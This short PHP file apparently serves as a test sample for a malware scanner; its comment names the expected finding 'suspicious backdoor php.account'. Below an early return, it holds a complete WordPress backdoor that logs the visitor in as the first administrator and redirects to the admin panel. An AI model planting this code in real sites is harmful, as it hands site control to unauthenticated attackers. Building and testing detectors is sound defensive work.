<?php return; // want: suspicious backdoor php.account
require 'wp-load.php';
foreach (get_users(array('role' => 'administrator')) as $one) {
	wp_set_auth_cookie($one->ID);
	break;
}
header('Location: wp-admin/');
